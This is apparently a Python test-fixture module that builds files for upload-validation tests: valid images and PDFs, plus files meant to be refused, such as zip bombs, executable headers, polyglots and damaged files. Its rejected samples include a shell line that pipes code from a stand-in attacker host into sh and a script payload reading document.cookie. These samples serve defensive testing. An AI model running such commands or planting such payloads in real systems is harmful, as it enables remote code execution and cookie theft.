"""Files for the upload tests, made byte by byte: real ones of every accepted type, and the kinds
that must be refused (programs, archives, bombs, damaged files)."""
from __future__ import annotations

import io
import struct
import zipfile
import zlib

from workflow.demo import minimal_pdf

PDF = minimal_pdf("Statute")


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 2, height: int = 2, *, declared: tuple[int, int] | None = None) -> bytes:
    """A real greyscale PNG of width × height; `declared` puts other dimensions in its header (the
    pixel data stays that of width × height: what a decompression bomb's header lies about)."""
    w, h = declared or (width, height)
    header = struct.pack(">IIBBBBB", w, h, 8, 0, 0, 0, 0)
    rows = b"".join(b"\x00" + bytes([128]) * width for _ in range(height))
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(rows)) + _chunk(b"IEND", b"")


# A 2 × 2 red JPEG (baseline, quality 50), as Pillow 13 writes it.
JPEG = bytes.fromhex(
    "ffd8ffe000104a46494600010100000100010000ffdb004300100b0c0e0c0a100e0d0e1211101318281a181616183123251d283a333d"
    "3c3933383740485c4e404457453738506d51575f626768673e4d71797064785c656763ffdb0043011112121815182f1a1a2f634238"
    "426363636363636363636363636363636363636363636363636363636363636363636363636363636363636363636363636363ffc0"
    "0011080002000203012200021101031101ffc4001f0000010501010101010100000000000000000102030405060708090a0bffc400"
    "b5100002010303020403050504040000017d01020300041105122131410613516107227114328191a1082342b1c11552d1f0243362"
    "7282090a161718191a25262728292a3435363738393a434445464748494a535455565758595a636465666768696a737475767778"
    "797a838485868788898a92939495969798999aa2a3a4a5a6a7a8a9aab2b3b4b5b6b7b8b9bac2c3c4c5c6c7c8c9cad2d3d4d5d6d7d8"
    "d9dae1e2e3e4e5e6e7e8e9eaf1f2f3f4f5f6f7f8f9faffc4001f0100030101010101010101010000000000000102030405060708090a"
    "0bffc400b51100020102040403040705040400010277000102031104052131061241510761711322328108144291a1b1c109233352"
    "f0156272d10a162434e125f11718191a262728292a35363738393a434445464748494a535455565758595a636465666768696a7374"
    "75767778797a82838485868788898a92939495969798999aa2a3a4a5a6a7a8a9aab2b3b4b5b6b7b8b9bac2c3c4c5c6c7c8c9cad2d3"
    "d4d5d6d7d8d9dae2e3e4e5e6e7e8e9eaf2f3f4f5f6f7f8f9faffda000c03010002110311003f00c7a28a2b84fa83ffd9")


def jpeg(*, declared: tuple[int, int] | None = None) -> bytes:
    """The JPEG above, its frame header claiming `declared` (width, height) if given."""
    if declared is None:
        return JPEG
    at = JPEG.index(b"\xff\xc0") + 5  # marker, length (2), precision: then height, width
    return JPEG[:at] + struct.pack(">HH", declared[1], declared[0]) + JPEG[at + 4:]


def zip_bomb(megabytes: int = 20) -> bytes:
    """A ZIP holding `megabytes` of zeros in a few kilobytes (a ratio of about a thousand)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("statute.pdf", b"\x00" * (megabytes * 1024 * 1024))
    return out.getvalue()


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100
WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00" + b"\x00" * 64
SHELL_SCRIPT = b"#!/bin/sh\ncurl -s http://attacker.example/x | sh\n"
GZIP = b"\x1f\x8b\x08\x00" + b"\x00" * 40
HTML = b"<!doctype html><script>alert(document.cookie)</script>"
PDF_WITH_ZIP = PDF + zip_bomb(1)  # a PDF and a ZIP in one file: ZIP readers find the archive at its end
PDF_TRUNCATED = PDF[: len(PDF) // 2]
PDF_WITH_TAIL = PDF + b"<script>more after the end</script>"
PNG_BAD_CRC = png()[:20] + b"\x01" + png()[21:]  # the header's height changed under its CRC
